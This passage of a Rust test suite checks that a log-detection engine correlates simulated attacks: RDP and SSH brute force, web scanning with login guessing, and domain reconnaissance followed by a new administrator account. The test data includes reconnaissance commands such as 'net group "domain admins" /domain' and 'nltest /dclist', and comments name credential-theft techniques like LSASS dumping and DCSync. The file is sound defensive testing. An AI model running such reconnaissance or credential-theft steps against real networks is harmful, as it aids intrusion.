        .iter()
        .map(|r| (r.meta.id.as_deref().unwrap_or(""), r.meta.name.as_deref()))
        .collect();
    CorrelationEngine::new(correlations, known).unwrap_or_else(|e| panic!("correlations: {e}"))
}

/// Runs `events` (in time order) through the rules and correlations; returns the ids of
/// the correlations that alerted and of the single-event rules that alerted on their own.
fn run_stream(detector: &Detector, events: &[Json]) -> (BTreeSet<String>, BTreeSet<String>) {
    let mut engine = correlation_engine(detector);
    let mut worker = detector.worker();
    let (mut correlations, mut singles) = (BTreeSet::new(), BTreeSet::new());
    let note = |hits: Vec<vigil_sigma::correlation::CorrelationHit>, out: &mut BTreeSet<String>| {
        out.extend(
            hits.into_iter()
                .filter(|h| h.stands_alone)
                .filter_map(|h| h.id),
        );
    };
    for (index, json) in events.iter().enumerate() {
        let Json::Object(map) = json.clone() else {
            panic!("events are JSON objects")
        };
        let mut event: Event = from_json_object(map);
        let time = event.timestamp.map_or(0, |t| t.timestamp_millis());
        let hits: Vec<u32> = worker.detect(&mut event).to_vec();
        for hit in hits {
            let rule = detector.rules().rule(hit);
            let id = rule.meta.id.clone().unwrap_or_default();
            if engine.stands_alone(&id) {
                singles.insert(id.clone());
            }
            let decided =
                engine.observe(&id, rule.meta.name.as_deref(), time, index as u64, &event);
            note(decided, &mut correlations);
        }
    }
    let rest = engine.finish();
    note(rest, &mut correlations);
    (correlations, singles)
}

fn at(seconds: i64) -> String {
    let base = chrono::DateTime::parse_from_rfc3339("2025-03-14T01:50:00Z")
        .unwrap_or_else(|e| panic!("{e}"));
    (base + chrono::Duration::seconds(seconds)).to_rfc3339()
}

fn timed(mut event: Json, seconds: i64) -> Json {
    event["@timestamp"] = json!(at(seconds));
    event
}

#[test]
fn rdp_spray_then_success_is_correlated() {
    let detector = builtin_detector();
    let users = [
        "administrator",
        "admin",
        "quantri",
        "ketoan",
        "vanthu",
        "test",
        "backup",
        "user",
        "guest",
        "support",
        "it",
        "scanner",
    ];
    let mut events: Vec<Json> = users
        .iter()
        .enumerate()
        .map(|(i, user)| timed(security(4625, json!({"TargetUserName": user, "LogonType": 3, "IpAddress": "198.51.100.39", "WorkstationName": "WIN-4F2A"})), i as i64 * 4))
        .collect();
    events.push(timed(
        security(
            4624,
            json!({"TargetUserName": "vanthu", "LogonType": 10, "IpAddress": "198.51.100.39"}),
        ),
        600,
    ));
    let (correlations, singles) = run_stream(&detector, &events);
    for id in [
        "affdee58-1fb0-40f1-bc33-3963936ea92b", // many failures from one source
        "fb51518f-bb5a-41b1-ac00-fbb3f362430d", // many accounts from one source
        "f89491c5-b744-4974-937c-40ec402407a2", // success after the burst
    ] {
        assert!(
            correlations.contains(id),
            "correlation {id} missing from {correlations:?}"
        );
    }
    assert!(
        singles.is_empty(),
        "building blocks alerted on their own: {singles:?}"
    );
}

#[test]
fn a_few_typos_are_not_a_brute_force() {
    let detector = builtin_detector();
    let events: Vec<Json> = (0..4)
        .map(|i| {
            timed(
                security(
                    4625,
                    json!({"TargetUserName": "vana", "LogonType": 3, "IpAddress": "10.20.3.21"}),
                ),
                i * 20,
            )
        })
        .collect();
    let (correlations, _) = run_stream(&detector, &events);
    assert!(correlations.is_empty(), "{correlations:?}");
}

#[test]
fn ssh_brute_force_then_password_login_is_correlated() {
    let detector = builtin_detector();
    let mut events: Vec<Json> = (0..12)
        .map(|i| {
            timed(
                auth(
                    "sshd",
                    &format!(
                        "Failed password for root from 192.0.2.44 port {} ssh2",
                        40_000 + i
                    ),
                ),
                i * 3,
            )
        })
        .collect();
    events.push(timed(
        auth(
            "sshd",
            "Accepted password for quantri from 192.0.2.44 port 41000 ssh2",
        ),
        120,
    ));
    let (correlations, _) = run_stream(&detector, &events);
    assert!(
        correlations.contains("01fb96c7-6905-406e-b3a5-9cde83ad4dc5"),
        "{correlations:?}"
    );
    assert!(
        correlations.contains("92b9a0b2-9f13-4090-856a-bc0d0a18edb1"),
        "{correlations:?}"
    );
}

#[test]
fn web_scan_and_login_guessing_are_correlated() {
    let detector = builtin_detector();
    let mut events: Vec<Json> = (0..16)
        .map(|i| {
            timed(
                web("GET", &format!("/khong-ton-tai-{i}.php"), "-", 404, BROWSER),
                i * 2,
            )
        })
        .collect();
    events
        .extend((0..15).map(|i| timed(web("POST", "/dang-nhap", "-", 200, BROWSER), 100 + i * 5)));
    let (correlations, _) = run_stream(&detector, &events);
    assert!(
        correlations.contains("75bc04fc-5aa9-4d4d-8fe4-14a5fdf9c1f7"),
        "{correlations:?}"
    );
    assert!(
        correlations.contains("b283a7d3-ba54-4f07-8d01-622fbf499e2e"),
        "{correlations:?}"
    );
}

#[test]
fn reconnaissance_burst_and_new_admin_are_correlated() {
    let detector = builtin_detector();
    let events = vec![
        timed(sysmon_process(&sys32("whoami.exe"), "whoami  /all", CMD), 0),
        timed(
            sysmon_process(
                &sys32("net.exe"),
                "net  group \"domain admins\" /domain",
                CMD,
            ),
            25,
        ),
        timed(
            sysmon_process(&sys32("nltest.exe"), "nltest  /dclist:minhson.local", CMD),
            55,
        ),
        timed(
            security(
                4720,
                json!({"SubjectUserSid": "S-1-5-21-9-9-9-1104", "TargetUserName": "hotro.it", "TargetSid": "S-1-5-21-1-2-3-1003"}),
            ),
            100,
        ),
        timed(
            security(
                4732,
                json!({"SubjectUserSid": "S-1-5-21-9-9-9-1104", "MemberSid": "S-1-5-21-1-2-3-1003", "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544"}),
            ),
            115,
        ),
    ];
    let (correlations, _) = run_stream(&detector, &events);
    assert!(
        correlations.contains("740e01ef-2441-4d16-80c5-afeb9f1df76a"),
        "{correlations:?}"
    );
    assert!(
        correlations.contains("1aaffe9a-cbd3-4515-82af-bf5f0f27f1bc"),
        "{correlations:?}"
    );
}

// ---------------------------------------------------------------------------------------
// The shared corpus: recorded attacks and routine Windows logs.

/// Rule ids (with their levels) that fire on any EVTX file under `dir`, per rule the files.
fn corpus_hits(detector: &Detector, dir: &Path) -> BTreeMap<String, (Level, BTreeSet<String>)> {
    let mut files = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d)
            .unwrap_or_else(|e| panic!("{}: {e}", d.display()))
            .flatten()
        {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if path
                .extension()
                .is_some_and(|e| e.eq_ignore_ascii_case("evtx"))
            {
                files.push(path);
            }
        }
    }
    let mut hits: BTreeMap<String, (Level, BTreeSet<String>)> = BTreeMap::new();
    let mut worker = detector.worker();
    for file in files {
        let mut collected = Collected::default();
        read_path(&file, &mut collected);
        let name = file
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        for mut event in collected.events {
            for &hit in worker.detect(&mut event) {
                let meta = &detector.rules().rule(hit).meta;
                let entry = hits
                    .entry(meta.id.clone().unwrap_or_default())
                    .or_insert((meta.level, BTreeSet::new()));
                entry.1.insert(name.clone());
            }
        }
    }
    hits
}

#[test]
fn corpus_attacks_are_found_and_routine_logs_stay_quiet() {
    let Some(corpus) = vigil_formats::corpus_dir() else {
        println!("skipped: corpus not found");
        return;
    };
    let detector = builtin_detector();

    let attacks = corpus_hits(&detector, &corpus.join("evtx/attack-samples"));
    let expected = [
        "38e02d85-eaa5-40c5-94e9-1be19f0341be", // comsvcs MiniDump
        "ff6b0ceb-0c3b-4f6b-b890-61beea4f5e18", // LSASS handle
        "1ec38317-91dc-4a4f-8bf4-122a192ff3a4", // wmiexec-style shell
        "a1b19cbd-3ffe-404d-91fc-4395166311fe", // rundll32 proxy execution
        "b0776eca-84c5-44fe-a0cf-c8c032b50797", // regsvr32 scriptlet
        "06831de2-6ead-4341-b408-23fe716c00ec", // security log cleared
        "639bd4d1-7a96-4eaa-b171-3a76545d4d92", // run key
        "46a91a75-54dd-49b4-9327-f3cd1214ceae", // scheduled task
        "59ded90b-a1b2-4121-913b-6c0c1ed0ccf7", // DCSync
    ];
    let missing: Vec<&str> = expected
        .iter()
        .copied()
        .filter(|id| !attacks.contains_key(*id))
        .collect();
    assert!(
        missing.is_empty(),
        "rules that found nothing in attack-samples: {missing:?}"
    );
    assert!(
        attacks.len() >= 25,
        "only {} rules fired on attack-samples",
        attacks.len()
    );

    // Routine logs: nothing at high or critical, except one service that a test agent
    // really did install from a Temp folder (pathfinder.exe in system.evtx).
    let routine = corpus_hits(&detector, &corpus.join("evtx/parser-samples"));
    let loud: Vec<String> = routine
        .iter()
        .filter(|(id, (level, _))| {
            *level >= Level::High && id.as_str() != "5d4708c0-5de2-4454-9c8d-a457638c33d8"
        })
        .map(|(id, (level, files))| format!("{id} ({level:?}) on {files:?}"))
        .collect();
    assert!(
        loud.is_empty(),
        "high-level alerts on routine logs:\n{}",
        loud.join("\n")
    );
}
